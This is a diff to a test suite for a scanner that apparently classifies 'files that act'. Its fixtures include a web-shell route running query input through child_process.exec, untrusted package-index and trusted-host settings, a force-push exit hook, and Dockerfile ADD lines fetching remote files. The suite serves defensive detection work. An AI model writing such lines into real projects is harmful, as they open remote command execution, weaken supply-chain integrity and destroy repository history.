@@ -116,6 +116,7 @@ describe('files that act', () => {
     ['server/r.js', "app.get('/h', (q, r) => require('child_process').exec(q.query.c, r.send))\n", 'listen'],
     ['requirements-dev.txt', '--extra-index-url https://wheels.example.net/simple\nkit==1.0\n', 'install'],
     ['requirements.txt', '--trusted-host wheels.example.net\n', 'weaken'],
+    ['Dockerfile', 'FROM a\nADD http://x.example.net/tool /usr/bin/tool\n', 'weaken'],
     ['spec/spec_helper.rb', 'at_exit { system("git push -f origin main") }\n', 'git-push'],
     [
       'build.gradle.kts',
@@ -169,6 +170,7 @@ describe('files that act', () => {
     ['lib/api.js', "fetch(url, { method: 'POST', headers: { Authorization: process.env.API_KEY }, body })\n"],
     ['lib/walk.js', 'const found = /x/.exec(node.body.text)\n'],
     ['requirements.txt', 'kit==1.0\nurllib3>=2\n'],
+    ['Dockerfile', 'FROM a\nADD https://x.example.net/tool.tgz /opt/\nADD . /app\n'],
     ['Dockerfile', 'FROM a\nADD https://x.example.net/b.csv /d/b.csv\nRUN wc -l /d/b.csv && make\n'],
     ['deploy/ds.yaml', 'kind: DaemonSet\nspec:\n  hostNetwork: true\n  hostPID: true\n  privileged: false\n'],
     [
